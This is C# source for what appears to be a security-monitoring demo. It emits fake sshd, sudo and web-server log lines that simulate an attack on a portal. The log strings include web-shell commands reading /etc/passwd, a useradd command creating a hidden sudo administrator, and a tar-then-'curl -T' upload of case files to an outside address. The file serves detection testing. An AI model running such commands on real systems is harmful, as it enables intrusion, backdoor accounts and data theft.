using System.Globalization;

namespace HaiPhongSoc.Demo;

/// <summary>
/// One attack on the public-service portal, as the logs of its machines show it: password guessing on the bastion, a login that succeeds, a web shell, a new
/// administrator, an archive sent out. It knows hosts and log formats, and nothing of the rules that should notice it.
/// </summary>
internal static class AttackScript
{
    private const string Attacker = "203.0.113.77";
    private const string Bastion = "bastion-dvc-01";
    private const string WebServer = "web-dvc-02";
    private const string Curl = "curl/8.14.1";

    /// <summary>What is sent, in order, with the pause before each.</summary>
    public static IEnumerable<AttackStep> Steps()
    {
        string[] guessed = ["root", "admin", "qtht", "ubnd", "qtht", "test", "qtht", "hoso"];
        for (var i = 0; i < 42; i++)
        {
            var user = guessed[i % guessed.Length];
            var known = user is "root" or "qtht";
            var port = 51000 + (i * 7);
            yield return Sshd(TimeSpan.FromMilliseconds(60), string.Create(CultureInfo.InvariantCulture, $"Failed password for {(known ? "" : "invalid user ")}{user} from {Attacker} port {port} ssh2"));
        }

        for (var i = 0; i < 24; i++)
            yield return Sshd(TimeSpan.FromMilliseconds(60), string.Create(CultureInfo.InvariantCulture, $"Failed password for qtht from {Attacker} port {52000 + i} ssh2"));

        yield return Sshd(TimeSpan.FromMilliseconds(700), $"Accepted password for qtht from {Attacker} port 52344 ssh2");
        yield return Sshd(TimeSpan.FromMilliseconds(50), "pam_unix(sshd:session): session opened for user qtht(uid=1002) by (uid=0)");

        yield return Web(TimeSpan.FromMilliseconds(900), new WebRequest(Attacker, "POST", "/hoso/dinhkem", 200, 187, "https://dichvucong.haiphong.example/hoso/moi"));
        foreach (var command in new[] { "whoami", "id", "uname%20-a", "cat%20/etc/passwd" })
            yield return Web(TimeSpan.FromMilliseconds(350), new WebRequest(Attacker, "GET", $"/uploads/anh_the.php?cmd={command}", 200, 412, Agent: Curl));

        yield return Sudo(TimeSpan.FromMilliseconds(900), "/usr/sbin/useradd -m -G sudo hotro2");
        yield return new AttackStep(TimeSpan.FromMilliseconds(60), "dvc-auth", now => LogLines.Auth(now, WebServer, "useradd", 40213, "new user: name=hotro2, UID=1013, GID=1013, home=/home/hotro2, shell=/bin/bash, from=/dev/pts/1"));
        yield return new AttackStep(TimeSpan.FromMilliseconds(40), "dvc-auth", now => LogLines.Auth(now, WebServer, "useradd", 40213, "add 'hotro2' to group 'sudo'"));

        yield return Sudo(TimeSpan.FromMilliseconds(900), "/usr/bin/tar czf /tmp/.b.tgz /var/lib/dvc/hoso");
        yield return Sudo(TimeSpan.FromMilliseconds(700), "/usr/bin/curl -T /tmp/.b.tgz https://203.0.113.99/u");
    }

    private static AttackStep Sshd(TimeSpan pause, string text) =>
        new(pause, "dvc-auth", now => LogLines.Auth(now, Bastion, "sshd", 22114, text));

    private static AttackStep Sudo(TimeSpan pause, string command) =>
        new(pause, "dvc-auth", now => LogLines.Auth(now, WebServer, "sudo", null, $"    qtht : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND={command}"));

    private static AttackStep Web(TimeSpan pause, WebRequest request) =>
        new(pause, "dvc-web", now => LogLines.Web(now, WebServer, request));
}

/// <summary>One record of the attack: how long to wait, by which source it comes, and the record as of a time.</summary>
internal sealed record AttackStep(TimeSpan Pause, string Source, Func<DateTimeOffset, string> Record);
